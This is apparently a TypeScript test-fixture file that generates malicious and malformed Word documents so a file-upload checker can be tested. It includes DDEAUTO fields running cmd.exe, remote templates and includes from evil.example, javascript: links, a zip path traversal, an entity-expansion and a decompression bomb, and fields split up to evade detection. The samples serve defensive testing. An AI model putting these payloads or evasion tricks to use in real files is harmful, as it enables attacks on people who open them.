import { docMimeType, docxMimeType } from '../../src/kernel/mime-types.ts';
import type { BadFile } from './bad-files.ts';
import {
  body,
  boxed,
  createDoc,
  createDocx,
  field,
  getDocxParts,
  links,
  mainType,
  packZip,
  run,
  types,
} from './word.ts';

type DocxParts = Parameters<typeof getDocxParts>[0];

const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const headType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml';
const vba = Buffer.from('d0cf11e0a1b11ae1', 'hex');
const override = (part: string, type: string) => `<Override PartName="${part}" ContentType="${type}"/>`;

const activeParts: Readonly<Record<string, DocxParts>> = {
  'macros, which it says': { '[Content_Types].xml': types('', macroType), 'word/vbaProject.bin': vba },
  'macros, which it hides': { 'word/vbaProject.bin': vba },
  'macros under another name': {
    'word/extra.xml': '<x/>',
    '[Content_Types].xml': types(override('/word/extra.xml', 'application/vnd.ms-office.vbaProject')),
  },
  'macros by their link': {
    'word/_rels/document.xml.rels': links(['vbaProject', 'other.xml']),
    'word/other.xml': '<x/>',
  },
  'a template from elsewhere': {
    'word/_rels/settings.xml.rels': links(['attachedTemplate', 'https://evil.example/x.dotm', true]),
    'word/settings.xml': '<w:settings xmlns:w="w"/>',
  },
  'a template that it names': { 'word/settings.xml': '<w:settings xmlns:w="w"><w:attachedTemplate/></w:settings>' },
  'an object': { 'word/embeddings/oleObject1.bin': vba },
  'a table of Excel': { 'word/embeddings/sheet.xlsx': createDocx() },
  'an object in its text': { 'word/document.xml': body('<w:object/>') },
  'an object that is linked': { 'word/_rels/document.xml.rels': links(['oleObject', 'file:///c:/x.xls', true]) },
  'a control': { 'word/activeX/activeX1.xml': '<ax:ocx xmlns:ax="ax"/>' },
  'a control in its text': { 'word/document.xml': body('<w:r><w:control/></w:r>') },
  'another document within': {
    'word/_rels/document.xml.rels': links(['aFChunk', 'afchunk.xml']),
    'word/afchunk.xml': '<x/>',
  },
  'a page within': { 'word/afchunk.html': '<html/>' },
  'an added program': { 'word/media/tool.exe': 'MZ' },
  'a picture from elsewhere': { 'word/_rels/document.xml.rels': links(['image', 'https://evil.example/x.png', true]) },
  'a link to a program': { 'word/_rels/document.xml.rels': links(['hyperlink', 'file:///c:/x.exe', true]) },
  'a link that is a script': { 'word/_rels/document.xml.rels': links(['hyperlink', 'javascript:alert(1)', true]) },
  'a frame': { 'word/_rels/webSettings.xml.rels': links(['frame', 'https://evil.example/', true]) },
  'an add-in': {
    '_rels/.rels': links(['officeDocument', 'word/document.xml'], ['webextensiontaskpanes', 'x.xml']),
    'x.xml': '<x/>',
  },
  'a field that starts a program': { 'word/document.xml': body(field('DDEAUTO c:\\\\cmd.exe "/k calc"')) },
  'a field in pieces': { 'word/document.xml': body(field(' D', 'DE', 'AUTO c:\\\\cmd.exe')) },
  'a field in numbers': { 'word/document.xml': body(field('QUOTE 68 68 69 65 85')) },
  'a short field': { 'word/document.xml': body('<w:fldSimple w:instr="DDE excel x"/>') },
  'a field in its foot': { 'word/footer1.xml': body(field('INCLUDETEXT "https://evil.example/x"')) },
  'a field that fetches a picture': { 'word/document.xml': body(field('INCLUDEPICTURE "https://evil.example/x.png"')) },
  'a field without an end': {
    'word/document.xml': body(
      '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE x</w:instrText></w:r>',
    ),
  },
  'a field in a head that is called data': {
    '[Content_Types].xml': types(override('/customXml/item1.xml', headType)),
    'customXml/item1.xml': body(field('DDEAUTO c:\\\\cmd.exe')),
  },
  'a field in a head that is called a picture': {
    '[Content_Types].xml': types(override('/word/media/image1.png', headType)),
    'word/media/image1.png': body(field('INCLUDEPICTURE "https://evil.example/x.png"')),
  },
  'a field in a text box': { 'word/document.xml': body(boxed(field('DDE x'))) },
  'a question to a database': {
    'word/settings.xml': '<w:settings xmlns:w="w"><w:mailMerge><w:query w:val="select 1"/></w:mailMerge></w:settings>',
  },
  'a drawing with a script': { 'word/media/x.svg': '<svg><script>alert(1)</script></svg>' },
};

/** Elements of a vocabulary that Word ignores. */
const leftOut = (inner: string) => `<x:part xmlns:x="urn:x">${inner}</x:part>`;
const piece = (code: string) => `<w:r><w:instrText>${code}</w:instrText></w:r>`;
const mark = (kind: string, more = '') => `<w:r><w:fldChar w:fldCharType="${kind}"${more}/></w:r>`;
const hidden = (...inner: readonly string[]) => packZip(getDocxParts({ 'word/document.xml': body(inner.join('')) }));

const grammar = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>';
const { 'word/document.xml': _text, ...withoutText } = getDocxParts();
const damaged: Readonly<Record<string, Buffer>> = {
  'a code that begins with what Word leaves out': hidden(
    ...[mark('begin'), leftOut(piece('PAGE ')), piece('DDEAUTO x'), mark('separate'), mark('end')],
  ),
  'a mark of a field that Word leaves out': hidden(
    ...[mark('begin'), '<x:fldChar xmlns:x="urn:x" x:fldCharType="separate"/>', piece('DDEAUTO x'), mark('end')],
  ),
  'a mark of a field that says two things': hidden(
    ...[mark('begin', ' xmlns:x="urn:x" x:fldCharType="end"'), piece('DD'), piece('EAUTO x'), mark('end')],
  ),
  'an unknown field mark': hidden(mark(' begin '), piece('DD'), piece('EAUTO x'), mark('end')),
  'a short field that says two things': hidden('<w:fldSimple xmlns:x="urn:x" w:instr="DDE x" x:instr="PAGE"/>'),
  'half of one': createDocx().subarray(0, createDocx().length / 2),
  'an own grammar': packZip(getDocxParts({ 'word/document.xml': grammar })),
  'broken marks': packZip(getDocxParts({ 'word/document.xml': '<w:document><w:body>' })),
  'another alphabet': packZip(getDocxParts({ 'word/document.xml': Buffer.from(`\ufeff${body(run('x'))}`, 'utf16le') })),
  'no text where it says': packZip(withoutText),
  'a way out of its folder': packZip(getDocxParts({ '../../word/evil.xml': '<x/>' })),
  'a name twice': packZip(getDocxParts({ 'WORD/document.xml': body(run('other')) })),
  'a text that unpacks to 100 MB': packZip(getDocxParts({ 'word/big.xml': Buffer.alloc(100 * 1024 * 1024, 32) })),
};

const flipped = (bytes: Buffer, at: number): Buffer => {
  const other = Buffer.from(bytes);
  other[at] = (other[at] ?? 0) ^ 0xff;
  return other;
};

const mixed: Readonly<Record<string, Buffer>> = {
  'something behind it': Buffer.concat([createDocx(), Buffer.from('<script>alert(1)</script>')]),
  'another archive behind it': Buffer.concat([createDocx(), createDocx('other')]),
};

const macros = {
  Macros: { VBA: { dir: Buffer.from('x'), _VBA_PROJECT: Buffer.from('x') }, PROJECT: Buffer.from('x') },
};
const activeDocs: Readonly<Record<string, Buffer>> = {
  macros: createDoc({}, macros),
  'macros of a workbook': createDoc({}, { _VBA_PROJECT_CUR: { VBA: { dir: Buffer.from('x') } } }),
  'an object': createDoc({}, { ObjectPool: { _1234567890: { '\x01Ole10Native': Buffer.from('MZ') } } }),
  'an object at its root': createDoc({}, { '\x01Ole10Native': Buffer.from('MZ') }),
  'a template from elsewhere': createDoc({ template: 'https://evil.example/x.dot' }),
  'a template on another machine': createDoc({ template: '\\\\evil.example\\x.dot' }),
  'a field that starts a program': createDoc({ text: 'See \x13DDEAUTO c:\\\\cmd.exe "/k calc"\x14shown\x15 there' }),
  'a field that fetches': createDoc({ text: '\x13 INCLUDETEXT "https://evil.example/x"\x15' }),
  'a field behind a field': createDoc({ text: '\x13\x13SET a b\x15DDEAUTO c:\\\\cmd.exe\x14shown\x15' }),
  'a field around a field': createDoc({ text: '\x13DD\x13PAGE\x142\x15EAUTO c:\\\\cmd.exe\x15' }),
  'a field behind a sign of control': createDoc({ text: '\x13\x08INCLUDEPICTURE "https://evil.example/x"\x15' }),
  'the marks of a template': createDoc({ flags: 1 }),
};
const damagedDocs: Readonly<Record<string, Buffer>> = {
  'its end missing': createDoc().subarray(0, -512),
  'a head of another program': createDoc({ version: 0x0065 }),
  'a table that leads in circles': (() => {
    const bytes = createDoc();
    const table = bytes.readUInt32LE(76);
    bytes.writeUInt32LE(0, (table + 1) * 512);
    return bytes;
  })(),
  'a text that is nowhere': createDoc({}, { '1Table': Buffer.alloc(10) }),
};

type Named = Readonly<Record<string, Buffer>>;
const listed = (of: string, { looks, why }: Pick<BadFile, 'looks' | 'why'>, named: Named): BadFile[] =>
  Object.entries(named).map(([what, bytes]) => ({ what: `${of} with ${what}`, bytes, looks, why }));

export const badWord = (): BadFile[] => [
  ...Object.entries(activeParts).map(([what, more]) => ({
    ...{ what: `a paper with ${what}`, bytes: packZip(getDocxParts(more)), looks: docxMimeType, why: 'word_active' },
  })),
  ...listed('a paper', { looks: docxMimeType, why: 'unreadable' }, damaged),
  { what: 'a paper with wrong sums', bytes: flipped(createDocx(), 60), looks: docxMimeType, why: 'unreadable' },
  ...listed('a paper', { looks: docxMimeType, why: 'mixed' }, mixed),
  ...listed('an old paper', { looks: docMimeType, why: 'word_active' }, activeDocs),
  ...listed('an old paper', { looks: docMimeType, why: 'unreadable' }, damagedDocs),
  { what: 'an old paper with a password', bytes: createDoc({ flags: 0x100 }), looks: docMimeType, why: 'word_locked' },
  {
    what: 'a paper with a password',
    bytes: createDoc({}, { EncryptedPackage: Buffer.from('x'), EncryptionInfo: Buffer.from('x') }),
    looks: docMimeType,
    why: 'word_locked',
  },
  {
    what: 'an old paper that is an archive',
    bytes: Buffer.concat([createDoc(), createDocx()]),
    looks: docMimeType,
    why: 'mixed',
  },
  ...[
    packZip(getDocxParts({ '[Content_Types].xml': types('', mainType.replace('document.main', 'template.main')) })),
    packZip(getDocxParts({ '[Content_Types].xml': types('', 'application/vnd.ms-excel.sheet.main+xml') })),
    packZip({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<x/>' }, { method: 0 }),
    packZip({ 'word/document.xml': body(run('x')) }),
  ].map((bytes, n) => ({
    what: `an archive that is no paper (${n + 1})`,
    bytes,
    looks: 'application/zip',
    why: 'unsupported',
  })),
];

export const goodWord = (): Readonly<Record<string, Buffer>> => ({
  'a paper': createDocx(),
  'a paper with its files as they are': packZip(getDocxParts(), { method: 0 }),
  'a paper with pictures, styles and notes': packZip(
    getDocxParts({
      'word/media/image1.png': Buffer.from('89504e47', 'hex'),
      'word/styles.xml': '<w:styles xmlns:w="w"/>',
      'docProps/core.xml': '<x/>',
      'customXml/item1.xml': Buffer.from('\ufeff<x/>', 'utf16le'),
      'word/printerSettings1.bin': 'x',
      'word/document.xml': body(
        `${field(' HYPERLINK "https://iriecoin.example/link" ')}${boxed(field('PAGE'))}${field('TOC \\o "1-3"')}`,
      ),
    }),
  ),
  'an old paper': createDoc(),
  'an old paper with its links and properties': createDoc(
    { text: 'See \x13 HYPERLINK "https://iriecoin.example/DDE"\x14our page\x15, page \x13PAGE\x142\x15.' },
    { '\x05SummaryInformation': Buffer.from('x'), '\x01CompObj': Buffer.from('x'), ObjectPool: {} },
  ),
  'an old paper of many pages': createDoc({ text: 'Irie Coin. '.repeat(9_000) }),
  'an old document, rewritten': createDoc(
    {},
    { MsoDataStore: { abc: { Item: Buffer.from('<x/>'), Properties: Buffer.from('<x/>') } } },
  ),
});
